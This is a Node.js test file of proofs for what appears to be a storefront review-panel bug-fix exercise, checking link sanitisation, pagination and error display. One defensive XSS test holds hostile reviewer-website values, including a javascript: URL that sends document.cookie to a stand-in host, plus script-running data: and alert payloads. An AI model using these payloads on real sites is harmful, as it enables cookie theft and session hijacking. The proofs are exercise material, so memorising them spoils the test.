// Proofs for the review panel exercise: each test fails on after/ and passes on fixed/.
// The proof runs from <tree>/proofs/, so the code under test is one folder up.
import assert from "node:assert/strict";
import { test } from "node:test";

import { renderReviewCard } from "../storefront/reviews/cards.mjs";
import { ReviewPanel, hasMorePages } from "../storefront/reviews/panel.mjs";

const ENTITY = { amp: "&", lt: "<", gt: ">", quot: '"', "#39": "'" };

/** Every href in `html`, decoded as the browser's HTML parser would. */
function hrefs(html) {
  return [...html.matchAll(/\shref="([^"]*)"/g)].map((m) =>
    m[1].replace(/&(amp|lt|gt|quot|#39);/g, (_, e) => ENTITY[e]),
  );
}

function review(website) {
  return {
    id: "r-9",
    rating: 5,
    body: "Great boots.",
    createdAt: "2026-02-11T09:30:00Z",
    author: { name: "Mallory", website },
  };
}

test("reviewer_website_cannot_run_script", () => {
  // The website is whatever the reviewer typed on their public profile.
  for (const website of ["javascript:fetch('//x.example/?c='+document.cookie)", "  JavaScript:alert(1)", "data:text/html,<script>alert(1)</script>"]) {
    for (const href of hrefs(renderReviewCard(review(website)))) {
      const scheme = new URL(href, "https://shop.example/p/123").protocol;
      assert.ok(scheme === "https:" || scheme === "http:", `a review card links to ${JSON.stringify(href)}: clicking the name runs it`);
    }
  }
});

test("last_partial_page_can_be_loaded", () => {
  // 25 reviews, 10 a page: pages 1 and 2 are full, page 3 holds the last 5.
  assert.equal(hasMorePages(2, 25), true, "after page 2 of 25 reviews, 'Load more' is hidden: reviews 21-25 are unreachable");
  assert.equal(hasMorePages(3, 25), false);
});

/** A tiny stand-in for the panel's DOM: the three elements ReviewPanel touches. */
function fakePanelRoot() {
  const el = () => ({
    textContent: "",
    innerHTML: "",
    hidden: false,
    disabled: false,
    insertAdjacentHTML(where, html) {
      this.innerHTML += html;
    },
  });
  const parts = { ".review-summary": el(), ".review-list": el(), ".load-more": el() };
  return { parts, querySelector: (selector) => parts[selector] };
}

test("server_error_is_not_shown_as_no_reviews", async () => {
  // The reviews API is overloaded: 503 with a JSON error body, as the gateway sends it.
  const fetch503 = async () => ({
    ok: false,
    status: 503,
    json: async () => ({ error: "service unavailable", retry_after: 5 }),
  });
  const root = fakePanelRoot();
  const warn = console.warn;
  console.warn = () => {};
  try {
    await new ReviewPanel(root, "boot-42", fetch503).loadMore();
  } finally {
    console.warn = warn;
  }
  const { ".review-summary": summary, ".review-list": list } = root.parts;
  assert.doesNotMatch(list.innerHTML, /No reviews yet/, "an outage tells shoppers the product has no reviews");
  assert.match(summary.textContent, /unavailable/, `the summary says ${JSON.stringify(summary.textContent)}`);
});
